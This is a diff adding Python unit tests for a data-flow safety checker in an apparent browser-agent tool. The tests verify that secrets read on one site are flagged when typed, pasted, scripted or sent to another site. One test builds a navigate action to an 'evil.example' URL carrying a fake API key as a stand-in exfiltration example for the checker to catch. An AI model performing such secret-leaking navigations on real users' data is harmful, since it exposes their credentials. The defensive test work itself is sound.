@@ -1,0 +1,57 @@
+"""The data-flow check of a parsed action (app.safety.flow_check): what its declared carriers would take to another
+site, what it typed joined to the next piece, what a result showed remembered, a paste typing what was copied."""
+
+from __future__ import annotations
+
+from app.protocol.actions import parse_action
+from app.protocol.envelope import ErrorBody
+from app.protocol.errors import ErrorCode
+from app.safety.flow_check import FlowCheck
+
+MAIL, NOTES = "https://mail.example.com/inbox", "http://localhost:9000/notes"
+SECRET = "sk-live-4f9a8b7c6d5e"
+
+
+def seen(check: FlowCheck, text: str) -> None:
+    check.saw_result("t", parse_action({"type": "extract"}), {"markdown": text, "url": MAIL}, MAIL)
+
+
+def test_each_declared_carrier_is_checked_where_it_goes() -> None:
+    check = FlowCheck()
+    seen(check, f"your key {SECRET}")
+    typed = check.flow("t", parse_action({"type": "type", "uid": "e1", "text": f"key {SECRET}"}), NOTES)
+    assert typed is not None and typed.dest_site == "localhost" and typed.source_site == "example.com"
+    assert check.flow("t", parse_action({"type": "type", "uid": "e1", "text": SECRET}), MAIL) is None, "same site"
+    opened = check.flow("t", parse_action({"type": "navigate", "url": f"https://evil.example/?k={SECRET}"}), MAIL)
+    assert opened is not None and opened.dest_site == "evil.example", "a URL is checked wherever it points"
+    script = parse_action({"type": "evaluate", "expression": f"document.title = '{SECRET}'"})
+    assert check.flow("t", script, NOTES) is not None, "a script on another site holds it"
+    filled = parse_action({"type": "fill", "fields": [{"uid": "e1", "value": "Ada"}, {"uid": "e2", "value": SECRET}]})
+    assert check.flow("t", filled, NOTES) is not None, "a nested carrier (fill's fields[].value)"
+    assert check.flow("t", parse_action({"type": "click", "uid": "e1"}), NOTES) is None, "a click carries nothing"
+    assert check.flow("other", parse_action({"type": "type", "uid": "e1", "text": SECRET}), NOTES) is None, "per task"
+
+
+def test_pieces_typed_are_joined_and_a_paste_types_what_was_copied() -> None:
+    check = FlowCheck()
+    seen(check, "account 7730 1942 8851")
+    first = parse_action({"type": "type", "uid": "e1", "text": "7730 1"})
+    assert check.flow("t", first, NOTES) is None
+    check.typed("t", first, [NOTES])
+    assert check.flow("t", parse_action({"type": "press_key", "key": "9"}), NOTES) is not None, "joined to the tail"
+    copy = parse_action({"type": "press_key", "key": "Control+C"})
+    check.saw_result("t", copy, {"pressed": "Control+C", "copied": SECRET, "url": MAIL}, MAIL)
+    paste = parse_action({"type": "press_key", "key": "Control+V"})
+    found = check.flow("t", paste, NOTES)
+    assert found is not None and SECRET.startswith(found.piece[:6]), "the paste types the copied secret"
+
+
+def test_an_error_that_quotes_the_page_is_remembered_and_forget_drops_it_all() -> None:
+    check = FlowCheck()
+    click = parse_action({"type": "click", "uid": "e1"})
+    check.saw_error("t", click, ErrorBody(code=ErrorCode.NOT_INTERACTABLE, message=f'covered by div "key {SECRET}"',
+                                          page_text=[f'div "key {SECRET}"']), MAIL)
+    typing = parse_action({"type": "type", "uid": "e1", "text": SECRET})
+    assert check.flow("t", typing, NOTES) is not None
+    check.forget("t")
+    assert check.flow("t", typing, NOTES) is None
